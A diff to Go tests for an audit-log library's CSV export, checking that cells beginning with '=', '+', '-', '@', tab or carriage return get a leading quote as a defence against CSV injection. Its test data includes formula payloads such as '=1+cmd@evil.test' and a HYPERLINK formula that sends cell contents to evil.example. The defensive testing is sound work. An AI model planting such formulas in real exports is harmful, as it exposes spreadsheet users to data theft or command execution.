@@ -11,11 +11,13 @@ import (
 
 	"github.com/trailhq/trail"
 	"github.com/trailhq/trail/httpapi"
+	"github.com/trailhq/trail/internal/teststore"
 )
 
 // awkward are field values that CSV and JSON must escape or quote.
 var awkward = []string{`Bob "the builder"`, "Plan, v2\nfinal", "ünïcödé ✓ 🚀", "<b>&amp;</b>", "line\u2028sep",
-	" leading space", "\tTab", `back\slash`, "", "\r\ncrlf", `\.`, "\u00a0nbsp", "ctl\x01"}
+	" leading space", "\tTab", `back\slash`, "", "\r\ncrlf", `\.`, "\u00a0nbsp", "ctl\x01",
+	"=1+cmd@evil.test", `=HYPERLINK("http://evil.example","x")`, "+1", "-2", "@SUM(A1)", "'quoted", "\rcr"}
 
 // awkwardEvents returns n events that use every awkward value in every
 // string field, with and without targets and metadata, some of them
@@ -103,7 +105,7 @@ func FuzzCSVRow(f *testing.F) {
 			Context: trail.Context{UserAgent: agent, Location: name + agent},
 			Targets: []trail.Target{{Type: "doc", ID: target, Name: agent}},
 		}
-		if !utf8.ValidString(name + agent + target) {
+		if !utf8.ValidString(name) || !utf8.ValidString(agent) || !utf8.ValidString(target) {
 			t.Skip("invalid UTF-8, which trail.ExportJSON hands over re-marshaled")
 		}
 		if noTargets {
@@ -154,14 +156,94 @@ func referenceCSV(tb testing.TB, events ...*trail.Event) []byte {
 		if e.Targets == nil {
 			targets = []byte("[]")
 		}
-		_ = w.Write([]string{e.ID, e.OccurredAt.UTC().Format(time.RFC3339Nano), e.Action,
-			e.Actor.Type, e.Actor.ID, e.Actor.Name, string(targets),
-			e.Context.IP, e.Context.UserAgent, e.Context.Location,
-			e.TraceID, e.Tenant, string(e.Metadata)})
+		t := textCell
+		_ = w.Write([]string{t(e.ID), e.OccurredAt.UTC().Format(time.RFC3339Nano), t(e.Action),
+			t(e.Actor.Type), t(e.Actor.ID), t(e.Actor.Name), string(targets),
+			t(e.Context.IP), t(e.Context.UserAgent), t(e.Context.Location),
+			t(e.TraceID), t(e.Tenant), string(e.Metadata)})
 	}
 	w.Flush()
 	if err := w.Error(); err != nil {
 		tb.Fatal(err)
 	}
 	return b.Bytes()
+}
+
+// textCell is a text cell as the CSV export writes it: OWASP's defence
+// against CSV injection puts a single quote before a cell that starts
+// with '=', '+', '-', '@', a tab or a carriage return.
+func textCell(s string) string {
+	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+		return "'" + s
+	}
+	return s
+}
+
+// TestCSVNeutralizesFormulas checks the cells a spreadsheet would run as
+// formulas, as planted by someone who never signed in.
+func TestCSVNeutralizesFormulas(t *testing.T) {
+	for _, tt := range []struct{ name, want string }{
+		{"=1+cmd@evil.test", "'=1+cmd@evil.test"},
+		{`=HYPERLINK("http://evil.example","x")`, `"'=HYPERLINK(""http://evil.example"",""x"")"`},
+		{"+1", "'+1"},
+		{"-2", "'-2"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tTab", "'\tTab"},
+		{"\rcr", "\"'\rcr\""},
+		{"=a,b", `"'=a,b"`},
+		{"\u00e9=1", "\u00e9=1"},
+		{"a=1", "a=1"},
+		{" =1", `" =1"`},
+		{"'=1", "'=1"},
+		{"", ""},
+	} {
+		e := &trail.Event{ID: "0195509a-0000-7000-8000-000000000001", Tenant: "acme", Action: "login.failure",
+			OccurredAt: time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC), Version: 1,
+			Actor: trail.Actor{Type: "user", ID: "u1", Name: tt.name}}
+		data, err := json.Marshal(e)
+		if err != nil {
+			t.Fatal(err)
+		}
+		row, err := httpapi.CSVRow(nil, data)
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := "0195509a-0000-7000-8000-000000000001,2025-03-01T12:00:00Z,login.failure,user,u1," + tt.want + ",[],,,,,acme,\n"
+		if got := string(row); got != want {
+			t.Errorf("name %q:\n got: %q\nwant: %q", tt.name, got, want)
+		}
+	}
+}
+
+// TestExportNeutralizesPlantedFormulas stores the cells of issue 12's
+// probe (a failed sign-in's email and user agent) and checks that the CSV
+// export defuses them while JSON Lines keep them exactly.
+func TestExportNeutralizesPlantedFormulas(t *testing.T) {
+	e := newEnv(t, teststore.SQLite(t))
+	acme := e.newKey(t, "acme", false, trail.ScopeAdmin)
+	email, agent := "=1+cmd@evil.test", `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	e.ingest(t, acme, event("login.failure", "actor", `{"type":"user","id":"-1","name":"`+email+`"}`,
+		"context", `{"ip":"203.0.113.9","user_agent":"`+strings.ReplaceAll(agent, `"`, `\"`)+`"}`))
+	csvBody := string(e.do(t, "GET", "/v1/events/export?format=csv&action=login.failure", acme, "").want(t, 200).body)
+	rows, err := csv.NewReader(strings.NewReader(csvBody)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("csv rows = %v, %v", rows, err)
+	}
+	got := map[string]string{}
+	for i, h := range rows[0] {
+		got[h] = rows[1][i]
+	}
+	for col, want := range map[string]string{"actor_id": "'-1", "actor_name": "'" + email, "user_agent": "'" + agent} {
+		if got[col] != want {
+			t.Errorf("csv %s = %q, want %q", col, got[col], want)
+		}
+	}
+	jsonl := e.do(t, "GET", "/v1/events/export?format=jsonl&action=login.failure", acme, "").want(t, 200).body
+	var ev trail.Event
+	if err := json.Unmarshal(bytes.TrimSpace(jsonl), &ev); err != nil {
+		t.Fatal(err)
+	}
+	if ev.Actor.Name != email || ev.Context.UserAgent != agent || ev.Actor.ID != "-1" {
+		t.Errorf("jsonl changed the values: %+v", ev)
+	}
 }
